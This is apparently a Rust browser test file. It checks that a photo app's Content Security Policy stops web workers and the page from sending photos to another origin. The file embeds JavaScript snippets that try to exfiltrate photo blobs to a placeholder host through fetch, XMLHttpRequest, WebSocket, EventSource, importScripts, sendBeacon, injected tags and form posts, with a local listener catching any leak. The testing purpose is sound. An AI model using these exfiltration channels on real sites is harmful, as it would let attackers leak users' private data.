//! Photos stay: whatever a worker or the page tries, the page's policy holds it. The network log, which every test reads, is
//! the second witness.

use std::io::Read;
use std::net::TcpListener;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;
use std::{fs, thread};

use anyhow::{Context, ensure};
use e2e::{
    Device, LONG, ON_CPU, Result, TempDir, VERY_LONG, before_engines, case_file, case_with,
    made_photos, outcome, sample_classes, until,
};
use xtask::serve::Site;

/// Where a leak would arrive: another port is another origin. It writes down the first line of whatever comes.
struct Elsewhere {
    address: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Elsewhere {
    fn listen() -> Result<Self> {
        let listener = TcpListener::bind(("127.0.0.1", 0))?;
        let address = listener.local_addr()?.to_string();
        let seen = Arc::new(Mutex::default());
        let noted = Arc::clone(&seen);
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
                let mut start = [0; 200];
                let length = stream.read(&mut start).unwrap_or(0);
                let text = String::from_utf8_lossy(&start[..length]);
                let line = text.lines().next().unwrap_or(NOTHING).to_owned();
                lock(&noted).push(line);
            }
        });
        Ok(Self { address, seen })
    }

    fn seen(&self) -> Vec<String> {
        lock(&self.seen).clone()
    }

    /// A script that sends there.
    fn script(&self, script: &str) -> String {
        script.replace("ELSEWHERE", &self.address)
    }
}

fn lock(seen: &Mutex<Vec<String>>) -> std::sync::MutexGuard<'_, Vec<String>> {
    seen.lock().unwrap_or_else(PoisonError::into_inner)
}

/// Of a connection on which nothing came.
const NOTHING: &str = "nothing";

/// The ways out of a worker. `WebTransport` and the rest of what `connect-src` judges are like `fetch`.
const WAYS: [&str; 8] = [
    "fetch",
    "keepalive",
    "request",
    "socket",
    "events",
    "import",
    "font",
    "scripts",
];

/// In a worker: sends the first photo that it is handed, in all ways, and tells how that went.
const SEND: &str = "{
    const to = way => `http://ELSEWHERE/${way}`;
    const ends = (target, good, bad) => new Promise((out, held) => { target[good] = out; target[bad] = held; });
    const ways = {
        fetch: photo => fetch(to('fetch'), { method: 'POST', mode: 'no-cors', body: photo }),
        keepalive: () => fetch(to('keepalive'), { method: 'POST', mode: 'no-cors', keepalive: true, body: 'a photo' }),
        request: photo => {
            const request = new XMLHttpRequest();
            request.open('POST', to('request'));
            request.send(photo);
            return ends(request, 'onload', 'onerror');
        },
        socket: () => ends(new WebSocket('ws://ELSEWHERE/socket'), 'onopen', 'onerror'),
        events: () => {
            const events = new EventSource(to('events'));
            return ends(events, 'onopen', 'onerror').finally(() => events.close());
        },
        import: () => import(to('import')),
        font: () => new FontFace('leak', `url(${to('font')})`).load(),
        // Of another kind, from an address of its own.
        scripts: async () => {
            const code = `try { importScripts('${to('scripts')}'); postMessage('out'); } catch { postMessage('held'); }`;
            const worker = new Worker(URL.createObjectURL(new Blob([code])));
            const { data } = await ends(worker, 'onmessage', 'onerror');
            if (data !== 'out') throw data;
        },
    };
    const told = new BroadcastChannel('leaks');
    let tried = false;
    self.addEventListener('message', ({ data }) => {
        const name = ['names', 'worker_tune', 'exporter'].includes(self.name) && new Blob(['a name']);
        const photo = Array.isArray(data) && data.find(part => part instanceof Blob) || name;
        if (!photo || tried) return;
        tried = true;
        for (const [name, way] of Object.entries(ways)) {
            const tell = how => told.postMessage({ worker: self.name, way: name, how });
            (async () => way(photo))().then(() => tell('out'), () => tell('held'));
        }
    });
}";

/// In a page: what is told.
const HEAR: &str = "
    window.graftLeaks = [];
    new BroadcastChannel('leaks').onmessage = event => window.graftLeaks.push(event.data);";

/// In a page: the ways out that a worker has not.
const SEND_FROM_PAGE: &str = "
    const to = way => `http://ELSEWHERE/${way}`;
    const photo = new Blob(['a photo']);
    fetch(to('fetch'), { method: 'POST', mode: 'no-cors', body: photo }).catch(() => {});
    navigator.sendBeacon(to('beacon'), photo);
    new WebSocket('ws://ELSEWHERE/socket');
    new EventSource(to('events'));
    new Image().src = to('image');
    const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
    for (const tag of ['script', 'iframe', 'video', 'audio', 'embed']) add(tag, { src: to(tag) });
    add('object', { data: to('object') });
    for (const rel of ['stylesheet', 'prefetch', 'manifest', 'modulepreload', 'icon']) add('link', { rel, href: to(rel) });
    document.styleSheets[0].insertRule(`body { background: url(${to('background')}) }`);
    const form = document.createElement('form');
    Object.assign(form, { action: to('form'), method: 'post' });
    document.body.append(form);
    form.submit();";

#[derive(serde::Deserialize, Debug)]
struct Told {
    worker: String,
    way: String,
    how: String,
}

/// Time for a request to leave.
async fn a_while() {
    tokio::time::sleep(Duration::from_secs(2)).await;
}

#[test]
fn neither_a_worker_nor_the_page_can_send_a_photo_out() -> Result {
    let elsewhere = Elsewhere::listen()?;
    let spy = |site: &std::path::Path| {
        let engines = [&ON_CPU[..], &["names"]].concat();
        before_engines(site, &engines, &elsewhere.script(SEND))
    };
    case_with(spy, "policy", Device::Cpu, async |browser| {
        // The browser's own words on what it holds.
        browser.expect_error("Content Security Policy");
        browser.before_every_page(HEAR).await?;
        let page = &browser.page;
        page.open("?device=cpu&fresh&workers=2").await?;
        page.add_class("things").await?;
        let folder = TempDir::new()?;
        let photos = made_photos(folder.path(), 12)?;
        page.add_photos("things", &photos).await?;
        page.embedded(12, LONG).await?;
        // Its names are read by a worker of their own, which is gone too soon to tell.
        let zip = case_file("zips/names-cp866.zip")?;
        page.upload("dataset-files", &[zip]).await?;
        page.embedded(20, LONG).await?;
        let told = until("all ways to be tried", LONG, async || {
            let told: Vec<Told> = page.ask("return window.graftLeaks;", &[]).await?;
            let of = |embeds: bool| {
                let those = told.iter().filter(|t| (t.worker == "embedder") == embeds);
                WAYS.iter()
                    .all(|way| those.clone().any(|told| told.way == *way))
            };
            Ok((of(true) && of(false)).then_some(told))
        })
        .await?;
        ensure!(told.iter().all(|told| told.how == "held"), "{told:?}");
        ensure!(elsewhere.seen().is_empty(), "{:?}", elsewhere.seen());
        page.ask::<()>(&elsewhere.script(SEND_FROM_PAGE), &[])
            .await?;
        a_while().await;
        // For a form and a frame Chromium connects ahead, then refuses to go there: nothing is sent.
        let mut sent = elsewhere.seen();
        sent.retain(|line| line != NOTHING);
        ensure!(sent.is_empty(), "{sent:?}");
        Ok(())
    });
    Ok(())
}

/// It holds squares of photos, as bytes.
#[test]
fn the_worker_that_tunes_cannot_send_anything_out() -> Result {
    let elsewhere = Elsewhere::listen()?;
    let spy = |site: &std::path::Path| {
        let real = "Object.defineProperty(GPUAdapterInfo.prototype, 'isFallbackAdapter', { get: () => false });";
        before_engines(site, &["worker_gpu"], real)?;
        before_engines(site, &["worker_tune"], &elsewhere.script(SEND))
    };
    case_with(spy, "policy-tuner", Device::WebGpu, async |browser| {
        browser.expect_error("Content Security Policy");
        browser.before_every_page(HEAR).await?;
        let page = &browser.page;
        page.open("?device=webgpu&fresh&workers=1").await?;
        for (class, photos) in sample_classes("fruit-birds")? {
            page.add_class(&class).await?;
            page.add_photos(&class, &photos[..3]).await?;
        }
        page.embedded(6, VERY_LONG).await?;
        page.click("method-fine-tuning").await?;
        until("all ways to be tried", VERY_LONG, async || {
            let told: Vec<Told> = page.ask("return window.graftLeaks;", &[]).await?;
            ensure!(told.iter().all(|told| told.how == "held"), "{told:?}");
            let tried = |way: &str| told.iter().any(|told| told.way == way);
            Ok(WAYS.iter().all(|way| tried(way)).then_some(()))
        })
        .await?;
        ensure!(elsewhere.seen().is_empty(), "{:?}", elsewhere.seen());
        Ok(())
    });
    Ok(())
}

/// It holds three squares of photos, as bytes.
#[test]
fn the_worker_that_exports_cannot_send_anything_out() -> Result {
    let elsewhere = Elsewhere::listen()?;
    let spy = |site: &std::path::Path| before_engines(site, &["exporter"], &elsewhere.script(SEND));
    case_with(spy, "policy-exporter", Device::Cpu, async |browser| {
        browser.expect_error("Content Security Policy");
        browser.before_every_page(HEAR).await?;
        let page = &browser.page;
        page.open("?device=cpu&fresh&workers=1").await?;
        for (class, photos) in sample_classes("fruit-birds")? {
            page.add_class(&class).await?;
            page.add_photos(&class, &photos[..3]).await?;
        }
        page.embedded(6, LONG).await?;
        page.train(LONG).await?;
        page.click("export").await?;
        page.click("export-onnx").await?;
        browser.downloaded("onnx.zip").await?;
        // It is gone when it has written: some ways it may not have told of.
        let told: Vec<Told> = page.ask("return window.graftLeaks;", &[]).await?;
        let tried = told.iter().any(|told| told.worker == "exporter");
        ensure!(tried, "it was not the worker that was looked at: {told:?}");
        ensure!(told.iter().all(|told| told.how == "held"), "{told:?}");
        a_while().await;
        ensure!(elsewhere.seen().is_empty(), "{:?}", elsewhere.seen());
        Ok(())
    });
    Ok(())
}

/// The tests above prove something: a worker that does not start from a `blob:` gets out of the same page in every way.
#[test]
fn a_worker_from_the_network_would_get_out() -> Result {
    let start = |how: &str| -> Result<Vec<String>> {
        let elsewhere = Elsewhere::listen()?;
        let folder = TempDir::new()?;
        let page = format!(
            "<!doctype html><meta http-equiv=\"Content-Security-Policy\" content=\"{}\"><title>policy</title>\
             <p data-testid=\"app\" data-state=\"ready\"></p><script src=\"./page.js\"></script>",
            policy()?
        );
        let script = format!(
            "const worker = new Worker({how}, {{ type: 'module' }});
             worker.postMessage(['a photo', new Blob(['of a cat'])]);"
        );
        for (file, text) in [
            ("index.html", page),
            ("page.js", script),
            ("worker.js", elsewhere.script(SEND)),
        ] {
            fs::write(folder.path().join(file), text)?;
        }
        let site = Site::start(folder.path(), "/", 0).map_err(anyhow::Error::msg)?;
        // What the guards say of it is another test's.
        let _ = outcome("policy-start", Device::Cpu, &site.url(), async |browser| {
            browser.page.open("").await?;
            a_while().await;
            Ok(())
        });
        Ok(elsewhere.seen())
    };
    let free = start("'./worker.js'")?;
    for way in WAYS {
        let path = format!(" /{way} ");
        ensure!(
            free.iter().any(|line| line.contains(&path)),
            "{way} did not get out: {free:?}"
        );
    }
    let code = "[`import '${new URL('./worker.js', location)}';`]";
    let held = start(&format!(
        "URL.createObjectURL(new Blob({code}, {{ type: 'text/javascript' }}))"
    ))?;
    ensure!(held.is_empty(), "{held:?}");
    Ok(())
}

/// The page's own.
fn policy() -> Result<String> {
    let page = fs::read_to_string(xtask::paths::dist().join("index.html"))?;
    let (_, rest) = page
        .split_once("http-equiv=\"Content-Security-Policy\"")
        .context("the page has no policy")?;
    let policy = rest.split('"').nth(1);
    Ok(policy.context("the policy is empty")?.to_owned())
}
